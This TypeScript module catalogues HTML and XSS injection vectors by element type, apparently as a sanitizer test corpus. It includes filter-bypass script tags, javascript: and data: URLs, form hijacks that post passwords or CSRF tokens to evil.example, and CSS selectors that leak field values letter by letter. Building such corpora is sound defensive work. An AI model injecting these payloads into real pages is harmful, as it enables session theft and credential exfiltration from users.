import type { VectorClass } from './vector-class.ts';

const X = 'alert(1)';

/** Elements that run, load or lead somewhere by themselves. */
export const ELEMENTS: Record<string, VectorClass> = {
  'scripts': {
    why: 'filters look for one spelling, parsers take many',
    vectors: [
      `<script>${X}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/x>${X}</script >`, `<scr<script>ipt>${X}</scr</script>ipt>`,
      `<script>${X}`, `<<script>${X}//<</script>`, `<script\n>${X}</script\n>`, `<script>a</script<b>${X}</script>`, `<scr\0ipt>${X}</scr\0ipt>`,
      `<script type=module>import('//evil.example')</script>`, `<noscript><script>${X}</script></noscript>`, `<sCrIpT>${X}</ScRiPt>`,
      `<script>/*</script><script>*/${X}</script>`, `<script src="data:text/javascript,${X}"></script>`, `<script type="text/ecmascript">${X}</script>`, `<script language=vbs>${X}</script>`,
      `<script type="importmap">{"imports":{"x":"data:text/javascript,${X}"}}</script><script type="module">import "x"</script>`, `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["//evil.example/s"]}]}</script>`,
      `<script for=window event=onload>${X}</script>`, `<script async src=//evil.example/a.js></script>`, `<script nomodule>${X}</script>`, `<script>\u2028${X}</script>`, `<script ~~~>${X}</script ~~~>`,
    ],
  },
  'frames and objects': {
    why: 'a document within the document runs what it likes',
    vectors: [
      `<iframe src="javascript:${X}"></iframe>`, `<iframe srcdoc="&lt;script&gt;${X}&lt;/script&gt;"></iframe>`, `<iframe><script>${X}</script></iframe>`, `<object data="javascript:${X}"></object>`,
      `<embed src="javascript:${X}">`, `<applet code=x>x</applet>`, `<frameset><frame src="javascript:${X}"></frameset>`, `<portal src="//evil.example">`, `<iframe src=//evil.example/f></iframe>`,
      `<iframe srcdoc='<img src=x onerror=${X}>' sandbox="allow-scripts"></iframe>`, `<iframe src="data:text/html,<script>parent.${X}</script>">`, `<iframe onload=${X}></iframe>`, `<fencedframe src="//evil.example"></fencedframe>`,
      `<object data="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"></object>`, `<object type="text/x-scriptlet" data="//evil.example/x"></object>`, `<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=${X}>">`,
      `<object><param name="src" value="javascript:${X}"></object>`, `<iframe name="x" src="about:blank"></iframe><a href="javascript:${X}" target="x">x</a>`, `<iframe loading=lazy srcdoc="&#60;script&#62;${X}&#60;/script&#62;"></iframe>`, `<noframes><iframe src=javascript:${X}></noframes>`,
    ],
  },
  'forms': {
    why: 'a button or a field sends elsewhere, or runs an address',
    vectors: [
      `<form action="javascript:${X}"><button>x</button></form>`, `<button formaction="javascript:${X}">x</button>`, `<isindex action="javascript:${X}">`, `<input type=image src=x onerror=${X}>`,
      `<keygen autofocus onfocus=${X}>`, `<form id=f></form><button form=f formaction="//evil.example/steal">x</button>`, `<input form=f formaction="javascript:${X}" type=submit>`, `<form><input name=csrf><button formmethod=post formaction=//evil.example>x</button></form>`,
      `<select autofocus onfocus=${X}><option>x</select>`, `<textarea autofocus onfocus=${X}></textarea>`, `<input type=hidden name=csrf value=x>`, `<input list=d><datalist id=d onclick=${X}><option></datalist>`, `<output onclick=${X}>x</output>`,
      `<form action="//evil.example"><input type=password name=password></form>`, `<fieldset disabled onclick=${X}>x</fieldset>`, `<button type=submit form="f" popovertarget=x>x</button>`, `<label for=email onclick=${X}>x</label>`,
    ],
  },
  'leading away': {
    why: 'base, refresh and links change what the rest of the page means',
    vectors: [
      `<meta http-equiv=refresh content="0;url=javascript:${X}">`, `<base href="javascript:${X}//"><a href="x">x</a>`, `<link rel=stylesheet href="//evil.example/x.css">`, `<base href="//evil.example/">`, `<base target="_blank">`,
      `<meta http-equiv="refresh" content="0; url=//evil.example/r">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`, `<meta http-equiv="Set-Cookie" content="x=y">`, `<meta charset="UTF-7">`, `<meta name=referrer content=unsafe-url>`,
      `<link rel=import href="//evil.example/i.html">`, `<link rel=prefetch href="//evil.example/p">`, `<link rel=preload as=script href="//evil.example/p.js">`, `<link rel=dns-prefetch href="//evil.example">`, `<link rel=modulepreload href="//evil.example/m.js">`,
      `<link rel=manifest href="//evil.example/m.json">`, `<link rel="icon" href="//evil.example/i.ico">`, `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html,<script>${X}</script>">`,
    ],
  },
  'styles': {
    why: 'a style sheet loads, covers the page, and reads fields letter by letter',
    vectors: [
      `<style>@import '//evil.example/x.css';</style>`, `<b style="background:url(javascript:${X})">x</b>`, `<b style="background:url(//evil.example/b.png)">x</b>`, `<p style="position:fixed;inset:0;z-index:9">x</p>`, `<style>*{x:expression(${X})}</style>`,
      `<style>input[name=csrf][value^=a]{background:url(//evil.example/a)}</style>`, `<b style="behavior:url(#x)">x</b>`, `<b style="-moz-binding:url(//evil.example/x.xml#x)">x</b>`, `<b style="width:expression(${X})">x</b>`, `<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>`,
      `<style></style><b style="list-style-image:url('javascript:${X}')">x</b>`, `<b style="\\62 ackground:url(//evil.example)">x</b>`, `<b style="content:url(//evil.example/c)">x</b>`, `<style>@media all{:root{--x:url(//evil.example)}}</style>`, `<style>/*</style><img src=x onerror=${X}>*/</style>`,
      `<div style="x:\\" onclick=${X}">x</div>`, `<style title="</style><script>${X}</script>">`, `<b class="error-summary button primary" style>x</b>`,
    ],
  },
  'media': {
    why: 'a picture is a request, and a request tells who reads',
    vectors: [
      `<img src=//evil.example/pixel.png>`, `<img srcset="//evil.example/1x.png 1x">`, `<picture><source srcset=//evil.example/p.png><img></picture>`, `<video poster=//evil.example/v.png></video>`, `<video src=//evil.example/v.mp4 autoplay>`, `<audio src=//evil.example/a.mp3 autoplay>`,
      `<img src=x:x srcset="x onerror=${X}">`, `<picture><source srcset=x></picture>`, `<track src=//evil.example/t.vtt default>`, `<body background=//evil.example/b.png>`, `<table background="javascript:${X}"><td>x</table>`, `<img dynsrc="javascript:${X}">`, `<img lowsrc="javascript:${X}">`,
      `<bgsound src="javascript:${X}">`, `<image src=x onerror=${X}>`, `<img src="x\`\`onerror=${X}">`, `<input type="image" src="//evil.example/i.png">`, `<video controls><source src=x type="video/mp4" onerror="${X}"></video>`, `<canvas onclick=${X}></canvas>`,
    ],
  },
}; // biome-ignore format: a heap
